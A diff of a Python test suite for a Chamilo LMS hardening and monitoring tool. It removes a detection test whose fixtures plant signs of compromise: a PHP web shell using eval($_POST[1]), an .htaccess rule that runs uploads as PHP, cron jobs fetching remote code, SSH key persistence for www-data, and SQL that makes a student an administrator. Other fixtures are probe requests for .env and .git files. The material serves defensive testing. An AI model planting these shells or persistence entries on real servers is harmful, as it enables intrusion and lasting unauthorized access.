@@ -58,7 +58,8 @@ def harden(playbook: Playbook, host: Host, reports: Path, *options: str, **varia
 def audited(playbook: Playbook, host: Host) -> dict[str, tuple[str, str]]:
     playbook.run("audit", host)
     report = json.loads((playbook.directory / "report/report.json").read_text())
-    return {one["id"]: (one["status"], one["evidence"]) for one in report["hosts"][0]["controls"]}
+    rows = [one for one in report["hosts"][0]["controls"] if one["level"] != "people"]
+    return {one["id"]: (one["status"], one["evidence"]) for one in rows}
 
 
 def daily(host: Host, check: bool = True) -> str:
@@ -256,90 +257,6 @@ WHERE username = """.replace("\n", " ").lstrip()
 DEMOTE = """
 UPDATE user SET roles = REPLACE(REPLACE(roles, '10:"ROLE_ADMIN', '12:"ROLE_STUDENT'), '"ROLE_ADMIN"', '"ROLE_STUDENT"')
 WHERE username = """.replace("\n", " ").lstrip()
-# Each kind of sign: what it is called, and what leaves it.
-PLANTED = {
-    "PHP where only data belongs": f"echo '<?php' >{ROOT}/var/upload/x.php",
-    "a file that makes data run": f"echo 'AddHandler application/x-httpd-php .jpg' >{ROOT}/var/upload/.htaccess",
-    "PHP among assets": f"echo '<?php' >{ROOT}/public/img/x.php",
-    "a file that changes how a directory is run": f"echo 'SetHandler php' >{ROOT}/public/img/.htaccess",
-    "a suspected web shell": f"echo '<?php eval($_POST[1]);' >{ROOT}/public/main/forum.php",
-    "a script beside index.php": f"echo '<?php phpversion();' >{ROOT}/public/help.php",
-    "a cron job of the web user": "echo '* * * * * php /srv/x # bin/console' | crontab -u www-data -",
-    "a cron job that runs as the web user": "echo '* * * * * www-data wget http://x' >/etc/cron.d/x",
-    "a cron job of another account": (
-        "install -o www-data /dev/null /srv/x.php; echo '* * * * * root php -q /srv/x.php' >/etc/cron.d/y"
-    ),
-    "a file of www-data's own that its programs run": "echo id >/var/www/.bashrc; chown www-data /var/www/.bashrc",
-    "persistent access for www-data": "mkdir -p /var/www/.ssh && echo ssh-rsa >/var/www/.ssh/authorized_keys",
-    "an at job of the web user": "install -D -o www-data /dev/null /var/spool/cron/atjobs/a0000101c0de00",
-    "a unit of systemd": "printf '[Service]\\nExecStart=/tmp/x\\n' >/etc/systemd/system/x.service",
-    "a process of the web user": "runuser -u www-data -- setsid -f php -r 'sleep(600);' >/dev/null 2>&1",
-    "pupils with an administrator's rights": f"{PROMOTE}'student01'",
-    "administrators made in the last 30 days": "UPDATE user SET created_at = NOW() WHERE username = 'second.admin'",
-}
-# What answered a visitor, by the access log.
-ASKED = {
-    "a script in an upload directory of bigUpload": "GET /main/inc/lib/javascript/bigupload/files/x.php",
-    "an upload to bigUpload": "POST /main/inc/lib/javascript/bigupload/inc/bigUpload.php",
-    "the old web services": "POST /main/webservices/additional_webservices.php",
-    "the PENS plugin with a package to fetch": "GET /plugin/Pens/pens.php?package-url=http://x/y.php",
-    "a PHP file among assets": "GET /img/x.php",
-    "a PHP file of a rare kind": "GET /x.phtml",
-    "the environment file": "GET /.env",
-    "the Git directory": "GET /.git/config",
-    "a database dump": "GET /backup/chamilo.sql.gz",
-    "a template's source": "GET /main/template/default/layout/page.tpl",
-    "the installer, after the installation": "POST /main/install/index.php",
-}
-CLEAN = """
-import os
-for number in range(300):
-    directory = f"/var/www/chamilo/var/upload/course{number}"
-    os.makedirs(directory)
-    code = f"/var/www/chamilo/public/main/made{number}"
-    os.makedirs(code)
-    for name in range(65):
-        open(f"{directory}/{name}.jpg", "w").close()
-    for name in range(30):
-        with open(f"{code}/{name}.php", "w") as file:
-            file.write("<?php require 'x.php'; echo htmlspecialchars($_GET['y']);\\n" * 20)
-        os.utime(f"{code}/{name}.php", (1.7e9, 1.7e9))
-"""
-
-
-def test_each_sign_of_a_break_in_is_found_and_reported_and_none_on_a_clean_host(monitored: Host, sink: Sink) -> None:
-    monitored.run(["python3", "-"], data=CLEAN.replace("\\\\n", "\\n"))
-    monitored.run(["chamilo-hardening", "integrity", "accept"])
-    daily(monitored)
-    clean = record(monitored)["compromise"]
-    assert clean["ok"] and clean["signs"] == {"campus_test": []} and clean["gaps"] == {"campus_test": []}
-    # All of it was checked, not only what the time for it was enough for.
-    counted = [re.search(rf"([\d,]+) {what}", clean["detail"]) for what in ("files in var/", "PHP files")]
-    assert [bool(found) for found in counted] == [True, True], clean["detail"]
-    numbers = [int(found[1].replace(",", "")) for found in counted if found]
-    assert numbers[0] >= 19500 and numbers[1] >= 9000 and sum(numbers) >= 28500
-    # Apache writes this virtual host's requests where it writes those of all that name no log.
-    log, host = {
-        "nginx": ("/var/log/nginx/access.log", ""),
-        "apache": ("/var/log/apache2/other_vhosts_access.log", "campus.test:80 "),
-    }[monitored.web]
-    # .env is as old as the image of the host, and the installer is asked hours after it was written.
-    later = monitored.run("LC_ALL=C date -u -d '+3 hours' '+%d/%b/%Y:%H:%M:%S +0000'").stdout.strip()
-    lines = [f'{host}203.0.113.9 - - [{later}] "{request} HTTP/1.1" 200 5 "-" "-"\n' for request in ASKED.values()]
-    monitored.run(["tee", "-a", log], data="".join(lines))
-    for command in PLANTED.values():
-        if command.startswith("UPDATE"):
-            sql(monitored, command)
-        else:
-            monitored.run(command)
-    sink.forget()
-    daily(monitored)
-    signs = record(monitored)["compromise"]["signs"]["campus_test"]
-    kinds = [*PLANTED, *ASKED]
-    assert [kind for kind in kinds if not any(sign.startswith(kind) for sign in signs)] == []
-    assert len(signs) == len(kinds)
-    (reported,) = (hook for hook in sink.hooks() if hook["title"] == "Signs of a break-in at campus.test")
-    assert all(sign in reported["text"] for sign in signs)
 
 
 # What is taken away of a host that was green, what brings it back, and which checks must see it at once.
@@ -409,8 +326,9 @@ def test_the_host_audits_itself_and_the_report_is_made_without_it(
     delivered = {"chamilo_results": str(tmp_path / "results"), "chamilo_report_dir": str(tmp_path / "report")}
     playbook.run("report", monitored, **delivered)
     (entry,) = json.loads((tmp_path / "report/report.json").read_text())["hosts"]
-    other = {one["id"]: one["status"] for one in entry["controls"] if one["status"] != seen[one["id"]][0]}
-    assert set(other) <= {"backups_encrypted"} and entry["taken"]
+    rows = {one["id"]: one["status"] for one in entry["controls"] if one["level"] != "people"}
+    other = {name for name, status in rows.items() if status != seen[name][0]}
+    assert other <= {"backups_encrypted"} and entry["taken"]
     shown = monitored.run("chamilo-hardening audit", check=False).stdout
     assert shown.startswith(f"{monitored.domain}, Chamilo {cell.flavour}.")
     assert "pass           permissions_env" in shown
@@ -466,7 +384,7 @@ def test_a_list_without_a_copy_elsewhere_is_not_enough(monitored: Host) -> None:
     assert not entry["ok"] and "no copy of the list is off this host" in entry["detail"]
 
 
-ATTACKS = {f"monitoring_{name}" for name in ("app_log", "auth", "accounts", "integrity", "compromise")}
+ATTACKS = {f"monitoring_{name}" for name in ("app_log", "auth", "accounts", "integrity")}
 # What is reported of each harm below.
 HARM = {
     "Chamilo at campus.test made errors",
@@ -474,7 +392,7 @@ HARM = {
     "Many failed logins at campus.test",
     "An unexpected administrator at campus.test",
     "Files of campus.test were changed",
-    "Signs of a break-in at campus.test",
+    "New at campus.test, which an intruder may have left",
 }
 
 
